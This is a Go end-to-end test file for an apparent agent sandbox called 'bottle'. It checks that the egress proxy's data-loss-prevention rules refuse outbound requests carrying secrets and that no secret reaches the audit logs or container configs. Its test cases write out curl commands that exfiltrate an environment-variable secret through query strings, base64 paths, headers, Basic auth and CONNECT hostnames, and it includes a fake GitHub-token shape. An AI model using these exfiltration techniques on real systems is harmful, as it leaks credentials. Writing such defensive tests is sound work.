package dockerbottle_test

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bottle-dev/bottle/auditlog"
	"github.com/bottle-dev/bottle/backend"
	"github.com/bottle-dev/bottle/egress"
	"github.com/bottle-dev/bottle/manifest"
)

// TestDLPEndToEnd: from inside a bottle, requests that carry a secret (the
// value of a host variable the manifest marks secret, a key shape, a
// pattern of the manifest's own) are refused by the sidecar, naming the
// rule; and the secret is nowhere: not in a refusal, an audit record, the
// audit file, the sidecar's log or a container's configuration.
func TestDLPEndToEnd(t *testing.T) {
	needEngine(t)
	t.Parallel()
	for _, rt := range runtimes {
		t.Run(rt, func(t *testing.T) {
			t.Parallel()
			// Made up at run time: no file holds it, so finding it anywhere
			// means it leaked from this test's bottle.
			secret := "dlp-e2e-" + strings.Repeat(rt, 2) + "-7f3a9c2e41"
			fakeGitHub := "gh" + "p_" + strings.Repeat("Zq8W", 9)
			internal := "itk_" + strings.Repeat("a1b2", 8)
			env.set(t, "BOTTLE_TEST_DLP_SECRET_"+strings.ToUpper(rt), secret)
			varName := "BOTTLE_TEST_DLP_SECRET_" + strings.ToUpper(rt)
			audit := &auditLog{}
			m := egressManifest(t, rt, `
allow: [upstream.test, "*.upstream.test"]
trusted: [upstream.test]
secret_env: [`+varName+`]
dlp:
  patterns:
    - {name: internal-token, regex: 'itk_[a-z0-9]{32}'}
`, nil)
			m.Bottles["plain"].PassEnv = []string{varName} // the agent holds the secret, as agents do
			auditDir := t.TempDir()
			keep := keepAudit(t, auditDir)
			bt := startBottle(t, backend.StartSpec{Manifest: m, Agent: "sh", OnEgress: func(r egress.Record) { audit.add(r); keep(r) }})
			session := bt.Info().Session
			startNetprobe(t, session, "upstream.test")

			if out := mustRun(t, bt, "sh", "-c", `test "$`+varName+`" = "`+secret+`" && curl -sS --max-time 20 http://upstream.test/clean`); out != "netprobe: GET /clean\n" {
				t.Fatalf("control: the agent has the secret and reaches the upstream: %q", out)
			}

			tests := []struct {
				name, script, rule, where string
			}{
				{"secret value in the query", `curl -sS --max-time 20 "http://upstream.test/?k=$` + varName + `"`, "dlp:secret:" + varName, "URL"},
				{"secret value base64 in the path", `curl -sS --max-time 20 "http://upstream.test/$(printf 'x:%s' "$` + varName + `" | base64 -w0)"`, "dlp:secret:" + varName, "URL"},
				{"secret value in a header", `curl -sS --max-time 20 -H "X-Token: $` + varName + `" http://upstream.test/`, "dlp:secret:" + varName, "header X-Token"},
				{"secret value as Basic credentials", `curl -sS --max-time 20 -u "me:$` + varName + `" http://upstream.test/`, "dlp:secret:" + varName, "header Authorization"},
				{"GitHub token shape", `curl -sS --max-time 20 -H "Authorization: token ` + fakeGitHub + `" http://upstream.test/`, "dlp:github-token", "header Authorization"},
				{"the manifest's own pattern", `curl -sS --max-time 20 http://upstream.test/upload/` + internal, "dlp:internal-token", "URL"},
				{"secret value in a CONNECT host", `curl -sSk --max-time 20 "https://$` + varName + `.upstream.test/" 2>&1; true`, "dlp:secret:" + varName, "target host"},
			}
			for _, tt := range tests {
				t.Run(tt.name, func(t *testing.T) {
					out := mustRun(t, bt, "sh", "-c", tt.script)
					if strings.Contains(tt.script, "https://") {
						if !strings.Contains(out, "403") {
							t.Errorf("CONNECT carrying a secret: %q, want a 403", out)
						}
					} else if want := "carries a secret in the " + tt.where + " (rule " + tt.rule + ")"; !strings.Contains(out, want) {
						t.Errorf("got %q, want a refusal saying %q", out, want)
					}
					if strings.Contains(out, secret) {
						t.Errorf("the refusal shows the secret: %q", out)
					}
					audit.waitFor(t, func(r egress.Record) bool { return r.Decision == "deny" && r.Rule == tt.rule })
				})
			}

			// Greps: everything the sidecar wrote, what its records became,
			// the audit file they are kept in (as the session layer keeps
			// them), and both containers' configurations.
			sidecar := sidecarOf(t, session)
			places := map[string]string{
				"the audit records":    audit.lines(),
				"the sidecar's log":    containerLogs(t, sidecar.ID),
				"the sidecar's config": rawInspect(t, sidecar.ID),
				"the agent's config":   rawInspect(t, bt.Info().ContainerID),
			}
			file := auditlog.Path(auditDir, session)
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatalf("the audit file: %v", err)
			}
			places["the audit file"] = string(data)
			for where, text := range places {
				if strings.Contains(text, secret) {
					t.Errorf("%s shows the secret", where)
				}
				if strings.Contains(text, fakeGitHub) || strings.Contains(text, internal) {
					t.Errorf("%s shows a key the DLP refused", where)
				}
			}
			var denials int
			for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
				var rec egress.Record
				if err := json.Unmarshal([]byte(line), &rec); err != nil {
					t.Fatalf("audit file line %q: %v", line, err)
				}
				if rec.Session != session {
					t.Errorf("audit file line of session %q in %s", rec.Session, filepath.Base(file))
				}
				if strings.HasPrefix(rec.Rule, "dlp:") {
					denials++
				}
			}
			if denials < len(tests) {
				t.Errorf("the audit file holds %d DLP refusals, want %d", denials, len(tests))
			}

			// bottle-rpc audit reads the same file.
			cmd := exec.Command(filepath.Join(workDir, "bottle-rpc"), "audit", "--dir", auditDir, session, "--deny")
			out, err := cmd.CombinedOutput()
			if err != nil {
				t.Fatalf("bottle-rpc audit: %v: %s", err, out)
			}
			if n := strings.Count(string(out), "dlp:"); n < len(tests) || strings.Contains(string(out), secret) {
				t.Errorf("bottle-rpc audit --deny shows %d DLP refusals (want %d) or the secret:\n%s", n, len(tests), out)
			}
		})
	}
}

func rawInspect(t testing.TB, id string) string {
	t.Helper()
	_, raw, err := engine.Client().ContainerInspectWithRaw(context.Background(), id, false)
	if err != nil {
		t.Fatal(err)
	}
	return string(raw)
}

// TestStartFailsFastWhenTheProxyRefusesItsConfig: a config the proxy
// refuses (here a pattern no manifest would let through) fails the start
// with the proxy's reason, at once rather than after the readiness
// timeout, and leaves nothing.
func TestStartFailsFastWhenTheProxyRefusesItsConfig(t *testing.T) {
	needEngine(t)
	m := egressManifest(t, "runc", "allow: [upstream.test]", nil)
	m.Bottles["plain"].Egress.DLP.Patterns = []manifest.DLPPattern{{Name: "broken", Regex: "(unclosed"}}
	session := "dlpbad" + strconv.FormatInt(time.Now().UnixNano()%1e9, 10)
	t0 := time.Now()
	_, err := engine.Start(context.Background(), backend.StartSpec{Manifest: m, Agent: "sh", Session: session}, nil)
	if err == nil || !strings.Contains(err.Error(), `DLP pattern "broken"`) {
		t.Fatalf("start = %v, want the proxy's refusal of the pattern", err)
	}
	if d := time.Since(t0); d > 20*time.Second {
		t.Errorf("the failed start took %s", d)
	}
	assertNothingLeft(t, session)
}

// keepAudit keeps the records it is given in their session's audit file
// in dir, as the session layer does with what a bottle hands up.
func keepAudit(t *testing.T, dir string) func(egress.Record) {
	var mu sync.Mutex
	var f *auditlog.File
	closed := false
	t.Cleanup(func() {
		mu.Lock()
		defer mu.Unlock()
		f.Close()
		closed = true // the last records of a bottle being removed are not kept
	})
	return func(r egress.Record) {
		mu.Lock()
		defer mu.Unlock()
		if closed {
			return
		}
		if f == nil {
			var err error
			if f, err = auditlog.Open(dir, r.Session); err != nil {
				t.Errorf("opening the audit file: %v", err)
				return
			}
		}
		if err := f.Write(r); err != nil {
			t.Errorf("keeping an audit record: %v", err)
		}
	}
}
